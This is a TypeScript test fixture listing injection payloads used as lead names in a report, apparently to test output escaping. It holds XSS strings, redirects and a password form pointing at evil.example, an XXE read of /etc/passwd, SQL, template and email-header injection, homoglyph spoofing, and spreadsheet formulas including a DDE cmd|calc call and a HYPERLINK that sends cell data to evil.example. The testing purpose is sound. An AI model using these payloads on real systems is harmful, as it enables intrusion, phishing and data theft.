/** Harmful names for leads. Each of them is used once for everything in a report that has a name. */

export const PAYLOADS: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '</td></tr></table><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext>',
  // Attributes.
  "' onmouseover='alert(1)",
  '" onmouseover="alert(1)',
  '` onmouseover=`alert(1)',
  '" style="position:fixed;inset:0',
  'x onerror=alert(1) y=',
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<a href="https://evil.example">Unsubscribe</a>',
  'https://evil.example/?q="><b>',
  // Styles and comments.
  '<style>*{display:none}</style>',
  '</style><script>alert(1)</script>',
  'x;}*{display:none',
  '<!--[if mso]><script>x</script><![endif]-->',
  '<![endif]--><b>for Word</b>',
  ']]><x>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  // Texts that are escaped already.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Templates and statements.
  '{{title}} {{{title}}} {{constructor.constructor "alert(1)"}}',
  '{{> body}}{{#each this}}{{@key}}{{/each}}',
  "$& $1 $` $' </head>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a lead is called
  '${process.env.HOME} #{7*7} <%= 7*7 %>',
  "'; DROP TABLE lead; --",
  '__proto__',
  // Line ends.
  'a\r\nBcc: eve@example.org\r\n\r\nbody',
  'a\nSubject: mine\n\n--boundary',
  '=?utf-8?q?a=0D=0ABcc=3A_eve=40example=2Eorg?=',
  'one\u2028two\u2029three\u0085four\u000bfive',
  '.\r\nQUIT',
  // Characters that are hidden or turn the text.
  '\u202egpj.exe\u2066 turned',
  'left\u200f\u061cright',
  'zero\u200bwidth\ufeff\u2060',
  '\u0000\u0008\u001b[2Jnull',
  '\ud800 half',
  'раураl.com аpple',
  // Long texts.
  '<'.repeat(5000),
  'W'.repeat(5000),
  'ﷺ'.repeat(500),
  `z${'\u0301'.repeat(3000)}`,
  '👩‍👩‍👧‍👦'.repeat(300),
  // Texts that a spreadsheet would run as formulas.
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '＝1+1',
  '=1+1";=1+1,"=1+1',
]

/** The same payloads, with titles that fit into one line of the test report. */
export const TITLED_PAYLOADS = PAYLOADS.map((payload) => ({
  payload,
  shown: JSON.stringify(payload).slice(0, 44),
}))
